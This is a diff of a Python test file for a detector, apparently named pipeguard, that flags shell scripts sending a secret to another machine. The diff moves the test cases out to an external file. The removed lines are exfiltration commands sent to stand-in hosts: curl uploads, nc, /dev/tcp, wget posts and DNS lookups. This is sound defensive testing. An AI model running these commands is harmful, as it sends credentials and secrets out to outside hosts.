@@ -4,27 +4,17 @@ import pytest
 
 from pipeguard.detect.commands.network_commands import MARK, MAX_SCRIPT, sends
 from pipeguard.firewall.finding import Confidence
+from tests.detect.cases import read_cases
+from tests.each import each
+
+CASES = read_cases(__file__)
 
 
 def sent(script: str, *, logs_in: bool = False) -> Confidence | None:
     return sends(script.replace("KEY", MARK), lambda _: logs_in)
 
 
-@pytest.mark.parametrize(
-    "script",
-    [
-        "curl -d KEY https://h.example",
-        "curl https://h.example/?k=KEY",
-        "echo KEY | nc h 80",
-        "bash -c 'curl -d KEY https://h.example'",
-        "echo KEY > f; curl -T f https://h.example",
-        "echo KEY > /dev/tcp/h/80",
-        "python3 -c 'import requests; requests.post(u, data=\"KEY\")'",
-        "sudo -u a wget --post-data=KEY https://h.example",
-        "nslookup KEY.h.example",
-        "docker run x curl -d KEY https://h.example",
-    ],
-)
+@each("script", CASES["what_talks_to_another_machine_sends_it"])
 def test_what_talks_to_another_machine_sends_it(script: str) -> None:
     assert sent(script) is Confidence.HIGH
 
